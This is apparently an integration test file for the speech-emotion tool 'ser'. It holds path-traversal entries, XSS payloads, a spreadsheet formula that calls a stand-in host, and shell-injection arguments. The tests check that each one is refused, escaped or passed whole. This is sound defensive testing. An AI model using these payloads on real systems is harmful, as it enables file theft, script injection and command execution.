//! What `ser` trusts: paths named by data stay inside their folders, names from data are quoted
//! harmlessly in every file `ser` writes, and the `just` recipes pass names as arguments.
//!
//! Elsewhere: zip-slip entries (`tests/fetch.rs`:
//! `from_zip_refuses_entries_that_would_leave_the_folder_and_writes_nothing`), manifest names
//! for downloads (`fetch_refuses_bad_options_and_manifest_names_that_leave_the_folder`),
//! downloads verified before use (`fetch_downloads_and_verifies_every_file_and_a_rerun_skips_them`,
//! `fetch_retries_a_corrupted_body_then_reports_it_and_writes_nothing`), Slurm scripts
//! (`tests/slurm.rs`, `scripts/slurm-test.sh`).

use std::fs;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::Command as Process;

use crate::common::{failure, ser, stdout};
use crate::report::{chromium, headless};
use crate::runner::{corpus, run};
use ser::base::csv::parse_record;
use ser::config::{CorpusKind, DataConfig};

/// Names that would be markup or a formula if quoted as they are.
const SCRIPT: &str = "<script>alert(1)</script>";
const FORMULA: &str = "=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")";

fn data(kind: CorpusKind, path: &Path) -> DataConfig {
    DataConfig {
        corpus: kind,
        path: path.to_path_buf(),
        ..DataConfig::default()
    }
}

/// The first `n` clips of the shared synthetic corpus (CREMA-D names, real audio).
fn clips(n: usize) -> Vec<PathBuf> {
    let mut all: Vec<PathBuf> = fs::read_dir(corpus())
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "wav"))
        .collect();
    all.sort();
    all.truncate(n);
    all
}

/// A folder outside every corpus folder, holding `secret.wav` (a real clip) and `secret.txt`.
fn outside() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    fs::copy(&clips(1)[0], dir.path().join("secret.wav")).unwrap();
    fs::write(dir.path().join("secret.txt"), "secret").unwrap();
    dir
}

// ------------------------------------------------------------------ paths stay inside

#[test]
fn csv_manifest_rows_leaving_the_folder_are_refused_by_row_with_the_fix() {
    let out = outside();
    let secret = out.path().join("secret.wav");
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    fs::create_dir(d.join("clips")).unwrap();
    fs::copy(&clips(1)[0], d.join("clips/ok.wav")).unwrap();
    symlink(d.join("clips/ok.wav"), d.join("inside-link.wav")).unwrap();
    symlink(&secret, d.join("outside-link.wav")).unwrap();
    symlink(out.path(), d.join("linked-dir")).unwrap();
    let bad = [
        "../secret.wav".to_string(),
        "clips/../../secret.wav".into(),
        "clips\\..\\..\\secret.wav".into(),
        secret.display().to_string(),
        "outside-link.wav".into(),
        "linked-dir/secret.wav".into(),
    ];
    for (i, row) in bad.iter().enumerate() {
        let manifest = d.join("manifest.csv");
        fs::write(
            &manifest,
            format!("path,label\nclips/ok.wav,ANG\ninside-link.wav,SAD\n{row},HAP\n"),
        )
        .unwrap();
        let e = ser::corpus::open(&data(CorpusKind::Csv, d))
            .unwrap_err()
            .to_string();
        assert!(e.contains(&manifest.display().to_string()), "{i}: {e}");
        assert!(e.contains(&format!("line 4: `{row}`")), "{i}: {e}");
        assert!(e.contains("nothing was read"), "{i}: {e}");
        assert!(
            e.contains("List each clip by its path inside that folder"),
            "{i}: {e}"
        );
        // The command line says the same and exits 1 (something failed doing the work).
        let (code, err) = failure(
            ser()
                .args(["data", "check", "--kind", "csv"])
                .arg(&manifest),
        );
        assert_eq!(code, 1, "{i}: {err}");
        assert!(err.contains(&format!("line 4: `{row}`")), "{i}: {err}");
    }
    // Every such row is named at once; links that stay inside and plain rows are fine.
    fs::write(
        d.join("manifest.csv"),
        format!(
            "path,label\n{}\n",
            bad.map(|r| format!("\"{r}\",HAP")).join("\n")
        ),
    )
    .unwrap();
    let e = ser::corpus::open(&data(CorpusKind::Csv, d))
        .unwrap_err()
        .to_string();
    assert!(e.contains("refused: 6 rows name a file outside"), "{e}");
    fs::write(
        d.join("manifest.csv"),
        "path,label\nclips/ok.wav,ANG\ninside-link.wav,SAD\n",
    )
    .unwrap();
    assert_eq!(
        ser::corpus::open(&data(CorpusKind::Csv, d))
            .unwrap()
            .items
            .len(),
        2
    );
}

#[test]
fn corpus_folders_refuse_links_to_clips_outside_them() {
    let out = outside();
    let secret = out.path().join("secret.wav");
    let crema = tempfile::tempdir().unwrap();
    let emodb = tempfile::tempdir().unwrap();
    let synth = tempfile::tempdir().unwrap().keep().join("synth");
    ser::corpus::synth::generate(&synth, 2, 0).unwrap();
    for (i, clip) in clips(2).iter().enumerate() {
        fs::copy(clip, crema.path().join(clip.file_name().unwrap())).unwrap();
        fs::copy(clip, emodb.path().join(["03a01Fa.wav", "03a01Wa.wav"][i])).unwrap();
    }
    let cases = [
        (
            CorpusKind::CremaD,
            crema.path().to_path_buf(),
            "1091_IEO_SAD_HI.wav",
        ),
        (CorpusKind::Emodb, emodb.path().to_path_buf(), "16b10Td.wav"),
        (CorpusKind::Synth, synth.clone(), "1091_IEO_SAD_HI.wav"),
    ];
    for (kind, dir, name) in &cases {
        // A link to a clip of the same folder is one more clip.
        let first = ser::corpus::open(&data(*kind, dir)).unwrap().items.len();
        let inside = fs::read_dir(dir)
            .unwrap()
            .map(|e| e.unwrap().path())
            .find(|p| p.extension().is_some_and(|e| e == "wav"))
            .unwrap();
        let alias = if *kind == CorpusKind::Emodb {
            "16a01Wa.wav"
        } else {
            "1090_IEO_SAD_LO.wav"
        };
        symlink(&inside, dir.join(alias)).unwrap();
        assert_eq!(
            ser::corpus::open(&data(*kind, dir)).unwrap().items.len(),
            first + 1,
            "{kind:?}"
        );
        // A link to a clip elsewhere is refused, naming it, the folder and the fix.
        symlink(&secret, dir.join(name)).unwrap();
        let e = ser::corpus::open(&data(*kind, dir))
            .unwrap_err()
            .to_string();
        assert!(e.starts_with(&dir.display().to_string()), "{kind:?}: {e}");
        assert!(
            e.contains(&format!(
                "{name} (a symbolic link to {}",
                secret.canonicalize().unwrap().display()
            )),
            "{kind:?}: {e}"
        );
        assert!(
            e.contains("Copy the clips into the folder"),
            "{kind:?}: {e}"
        );
        if *kind != CorpusKind::Synth {
            let kind_arg = if *kind == CorpusKind::Emodb {
                "emodb"
            } else {
                "crema-d"
            };
            let (code, err) = failure(ser().args(["data", "check", "--kind", kind_arg]).arg(dir));
            assert_eq!(code, 1, "{err}");
            assert!(err.contains(name), "{err}");
        }
    }
}

#[test]
fn data_check_manifest_entries_leaving_the_folder_are_refused() {
    let out = outside();
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let clip = &clips(1)[0];
    let name = clip.file_name().unwrap().to_str().unwrap();
    fs::copy(clip, d.join(name)).unwrap();
    let bytes = fs::metadata(clip).unwrap().len();
    let sha = "0".repeat(64);
    let manifest = d.join("sums.csv");
    let secret = out.path().join("secret.txt").display().to_string();
    for (i, bad) in ["../secret.txt", "a/../../secret.txt", secret.as_str()]
        .iter()
        .enumerate()
    {
        fs::write(
            &manifest,
            format!("file,bytes,sha256\n{name},{bytes},{sha}\n{bad},6,{sha}\n"),
        )
        .unwrap();
        let (code, err) = failure(
            ser()
                .args(["data", "check"])
                .arg(d)
                .arg("--manifest")
                .arg(&manifest),
        );
        assert_eq!(code, 1, "{i}: {err}");
        assert!(err.contains(&manifest.display().to_string()), "{i}: {err}");
        assert!(
            err.contains(&format!(
                "line 3: refused: `{bad}` leaves the corpus folder"
            )),
            "{i}: {err}"
        );
        assert!(
            err.contains("list each file by its path inside the folder"),
            "{i}: {err}"
        );
    }
    // Through a linked folder: the file outside is not read, and the report says why.
    symlink(out.path(), d.join("linked")).unwrap();
    fs::write(
        &manifest,
        format!("file,bytes,sha256\n{name},{bytes},{sha}\nlinked/secret.txt,6,{sha}\n"),
    )
    .unwrap();
    let report = ser::corpus::check::check(d, CorpusKind::CremaD, Some(&manifest)).unwrap();
    let refused: Vec<_> = report
        .unreadable
        .iter()
        .filter(|(p, why)| {
            p.ends_with("linked/secret.txt") && why.starts_with("refused: a symbolic link to")
        })
        .collect();
    assert_eq!(refused.len(), 1, "{:?}", report.unreadable);
    assert!(!report.is_clean());
}

// ------------------------------------------------------------------ names quoted harmlessly

/// Every text file under `dir` (not PNGs, model weights or arrays), with its path.
fn text_files(dir: &Path) -> Vec<(PathBuf, String)> {
    let mut out = Vec::new();
    for entry in fs::read_dir(dir).unwrap() {
        let p = entry.unwrap().path();
        if p.is_dir() {
            out.extend(text_files(&p));
        } else if let Ok(text) = fs::read_to_string(&p) {
            out.push((p, text));
        }
    }
    out
}

/// A cell a spreadsheet would run: text starting with `=`, `+`, `-`, `@`, tab or CR.
fn is_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err()
}

/// A CSV corpus whose clip paths, labels and speakers are markup and formulas, swept by an
/// experiment whose name, note and grid values are too; `ser report --html` and `ser eval` on it.
/// No generated text file holds the markup unescaped, no CSV cell is a formula, and the page
/// shows the names as text in a browser.
#[test]
fn names_from_data_are_quoted_harmlessly_in_every_generated_file() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let data_dir = d.join("corpus");
    fs::create_dir_all(data_dir.join("<script>alert(1)<")).unwrap();
    let labels = [SCRIPT, FORMULA, "@SUM(A1)", "-1+1"];
    let speakers = ["<b>s1</b>", "+s2"];
    // The first is a folder `<script>alert(1)<` holding `script>0.wav`, ...
    let prefixes = [SCRIPT, "=1+2 ", "-x ", "@x "];
    let mut manifest = String::from("path,label,speaker\n");
    for (i, clip) in clips(48).iter().enumerate() {
        let name = format!("{}{i}.wav", prefixes[i % prefixes.len()]);
        fs::copy(clip, data_dir.join(&name)).unwrap();
        manifest += &format!(
            "{name},{},{}\n",
            quote(labels[i % labels.len()]),
            quote(speakers[i % speakers.len()])
        );
    }
    fs::write(data_dir.join("manifest.csv"), manifest).unwrap();
    let experiment_name = "<img src=x onerror=document.body.setAttribute('data-pwned',1)>";
    let file = d.join(format!("{experiment_name}.toml"));
    fs::write(
        &file,
        format!(
            "[data]\ncorpus = \"csv\"\npath = {data:?}\n\
             [audio]\nmax_samples = 8000\n\
             [split]\ntest = 0.25\nvalid = 0.25\n\
             [model]\nfilters = [4]\nkernel = 3\ndense = 8\n\
             [train]\nepochs = 1\nbatch_size = 16\nlr = 1e-2\n\
             [grid]\n\"train.seed\" = [0]\n\
             # Jobs whose corpus cannot be read: failed rows quoting the paths and their errors.\n\
             [[grid.include]]\n\"data.corpus\" = \"crema-d\"\n\"data.path\" = {SCRIPT:?}\n\
             [[grid.include]]\n\"data.corpus\" = \"crema-d\"\n\"data.path\" = {FORMULA:?}\n\
             [report]\nnote = {note:?}\n",
            data = data_dir.display().to_string(),
            note = format!("{SCRIPT} [x](javascript:alert(1)) {FORMULA}"),
        ),
    )
    .unwrap();
    let (code, _, err) = run(crate::runner::sweep(&file, d).arg("--jobs").arg("1"));
    assert_eq!(code, 1, "two jobs fail, one is done: {err}");
    let results = d.join("results").join(experiment_name);
    stdout(ser().arg("-q").arg("report").arg(&results).arg("--html"));
    let run_dir = fs::read_dir(&results)
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| p.join("metrics.json").is_file())
        .unwrap_or_else(|| {
            let errors: Vec<(PathBuf, String)> = text_files(&results)
                .into_iter()
                .filter(|(p, _)| p.ends_with("error.txt"))
                .collect();
            panic!("no done job: {err}\n{errors:?}")
        });
    stdout(
        ser()
            .arg("-q")
            .arg("eval")
            .arg(&run_dir)
            .arg("--cache")
            .arg(d.join("cache")),
    );
    stdout(
        ser()
            .arg("-q")
            .arg("eval")
            .arg(&run_dir)
            .arg("--corpus")
            .arg(format!("csv:{}", data_dir.display()))
            .arg("--cache")
            .arg(d.join("cache")),
    );

    let files = text_files(&results);
    let kinds = |ext: &str| {
        files
            .iter()
            .filter(|(p, _)| p.extension().is_some_and(|e| e == ext))
            .count()
    };
    assert!(
        kinds("csv") >= 6 && kinds("md") == 1 && kinds("html") == 1,
        "{files:?}"
    );
    let predictions: String = files
        .iter()
        .filter(|(p, _)| p.ends_with("predictions.csv"))
        .map(|(_, text)| text.as_str())
        .collect();
    // The two re-evaluations' and the one done run's own (two jobs failed).
    assert_eq!(predictions.matches("path,true,predicted").count(), 3);
    // The names did reach the files (quoted): a test that finds nothing proves nothing.
    let html = &files
        .iter()
        .find(|(p, _)| p.ends_with("report.html"))
        .unwrap()
        .1;
    let md = &files
        .iter()
        .find(|(p, _)| p.ends_with("summary.md"))
        .unwrap()
        .1;
    assert!(
        html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "{html:.2000}"
    );
    assert!(html.contains("&lt;img src=x onerror="), "{html:.2000}");
    assert!(md.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "{md}");
    assert!(md.contains("[x\\](javascript:alert(1))"), "{md}");
    assert!(
        predictions.contains("<script>alert(1)</script>"),
        "CSV keeps names as they are"
    );

    let mut cells = 0;
    for (path, text) in &files {
        let ext = path.extension().and_then(|e| e.to_str()).unwrap_or("");
        match ext {
            "csv" => {
                for line in text.lines() {
                    for cell in parse_record(line).unwrap() {
                        cells += 1;
                        assert!(
                            !is_formula(&cell),
                            "{}: a formula cell {cell:?}",
                            path.display()
                        );
                    }
                }
            }
            // Rendered as markup: only report.html's own script, no tag or link from a name.
            "md" | "html" | "svg" => {
                let lower = text.to_lowercase();
                let own = usize::from(ext == "html");
                assert_eq!(lower.matches("<script").count(), own, "{}", path.display());
                assert!(!lower.contains("<img src=x"), "{}", path.display());
                assert!(!lower.contains("<b>"), "{}", path.display());
                if ext == "md" {
                    assert!(!text.contains("[x](javascript:"), "{}", path.display());
                }
            }
            // JSON strings, plain-text reports and lists are never rendered as markup.
            _ => {}
        }
    }
    assert!(cells > 100, "{cells} CSV cells checked");
    // The grid's `data.path` value reached summary.csv, neutralised.
    let summary_csv = &files
        .iter()
        .find(|(p, _)| p.ends_with("summary.csv"))
        .unwrap()
        .1;
    assert!(summary_csv.contains("\"'=HYPERLINK("), "{summary_csv}");
    eprintln!(
        "{} generated text files checked ({} CSV cells), no markup or formula from a name",
        files.len(),
        cells
    );
    for label in [SCRIPT, FORMULA, "@SUM(A1)", "-1+1"] {
        assert!(
            predictions.contains(&ser::base::csv::field(label)),
            "{label} quoted as a field: {predictions}"
        );
    }

    match chromium() {
        None => eprintln!("skipped the browser check: no `chromium` or `chromium-browser` on PATH"),
        Some(chromium) => {
            let page = results.join("report.html");
            let dom = headless(&chromium, &d.join("profile"), &page, &["--dump-dom"]);
            // Had the name run as markup, its handler would have set this attribute on <body>.
            assert!(
                !dom.contains("data-pwned=\"1\""),
                "the experiment's name ran as markup: {dom:.3000}"
            );
            assert_eq!(dom.matches("<script").count(), 1, "{dom:.2000}");
            assert!(
                dom.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
                "{dom:.2000}"
            );
            assert!(dom.contains("&lt;img src=x onerror="), "{dom:.2000}");
        }
    }
}

/// A CSV manifest field (as a writer of manifests would quote it, formulas left as they are).
fn quote(s: &str) -> String {
    if s.contains([',', '"']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.to_string()
    }
}

#[test]
fn chart_text_in_svg_is_escaped() {
    let dir = tempfile::tempdir().unwrap();
    let classes: Vec<String> = [SCRIPT, FORMULA, "a&b"].map(String::from).to_vec();
    let metrics = ser::eval::evaluate(&[0, 1, 2, 0], &[0, 1, 1, 2], &classes).unwrap();
    let svg = dir.path().join("confusion.svg");
    ser::plot::confusion::write(&svg, &metrics, SCRIPT).unwrap();
    let text = fs::read_to_string(&svg).unwrap();
    assert!(!text.contains("<script"), "{text:.2000}");
    assert!(
        text.contains("&lt;script&gt;"),
        "the names are drawn as text: {text:.2000}"
    );
    // And the confusion CSVs keep the formula a text.
    for csv in [metrics.confusion_csv(), metrics.confusion_normalized_csv()] {
        for line in csv.lines() {
            for cell in parse_record(line).unwrap() {
                assert!(!is_formula(&cell), "{cell:?} in {csv}");
            }
        }
    }
}

// ------------------------------------------------------------------ generated shell

/// The repository's `justfile` run with hostile arguments: `ser` replaced by a stub printing
/// its arguments (`--set ser`), dependencies (the release build) not run. Each argument must
/// arrive whole and no injected command may run.
#[test]
fn just_recipes_pass_hostile_names_as_single_arguments() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let justfile = Path::new(env!("CARGO_MANIFEST_DIR")).join("justfile");
    let text = fs::read_to_string(&justfile).unwrap();
    assert!(text.contains("set positional-arguments"), "justfile");
    let stub = "#!/bin/sh\nfor a in \"$@\"; do printf '[%s]\\n' \"$a\"; done\n";
    fs::create_dir(d.join("scripts")).unwrap();
    for p in ["stub", "scripts/rehearsal.sh", "scripts/gpu-check.sh"] {
        fs::write(d.join(p), stub).unwrap();
        fs::set_permissions(d.join(p), fs::Permissions::from_mode(0o755)).unwrap();
    }
    let hostile = [
        "x; touch PWNED1",
        "$(touch PWNED2)",
        "`touch PWNED3`",
        "a b' \"c\" && touch PWNED4",
        "x\ntouch PWNED5",
    ];
    let mut cases: Vec<(Vec<&str>, Vec<&str>)> = Vec::new();
    for h in hostile {
        cases.push((vec!["sweep", h, "--jobs", h], vec!["sweep", h, "--jobs", h]));
        cases.push((vec!["run", h, h, h], vec!["run", h, "--job", h, h]));
        cases.push((vec!["report", h, h], vec!["report", h, h]));
        cases.push((vec!["rehearsal", h], vec![h]));
        cases.push((vec!["gpu-check", h], vec![h]));
        cases.push((vec!["bench-sweep", "--setup", h], vec!["--setup", h]));
    }
    let Ok(probe) = Process::new("just").arg("--version").output() else {
        eprintln!(
            "skipped running the recipes: no `just` on PATH (cargo install --locked just); \
             checked the recipe text only"
        );
        for recipe in [
            "sweep",
            "run",
            "report",
            "rehearsal",
            "gpu-check",
            "bench-sweep",
        ] {
            let body = text.split(&format!("\n{recipe} ")).nth(1).unwrap();
            let body = &body[..body.find("\n\n").unwrap_or(body.len())];
            assert!(
                !body.contains("{{FILE}}") && !body.contains("{{ARGS}}"),
                "{body}"
            );
        }
        return;
    };
    assert!(probe.status.success());
    for (args, expected) in &cases {
        let out = Process::new("just")
            .arg("--justfile")
            .arg(&justfile)
            .arg("--working-directory")
            .arg(d)
            .args(["--no-deps", "--set", "ser", "./stub"])
            .args(args)
            .output()
            .unwrap();
        let printed = String::from_utf8_lossy(&out.stdout);
        assert!(
            out.status.success(),
            "{args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let tail: Vec<String> = expected.iter().map(|a| format!("[{a}]")).collect();
        assert!(
            printed.trim_end().ends_with(&tail.join("\n")),
            "{args:?} arrived as\n{printed}"
        );
    }
    let pwned: Vec<_> = fs::read_dir(d)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .filter(|n| n.to_string_lossy().starts_with("PWNED"))
        .collect();
    assert!(pwned.is_empty(), "injected commands ran: {pwned:?}");
    eprintln!(
        "{} recipe calls with hostile arguments, none injected",
        cases.len()
    );
}
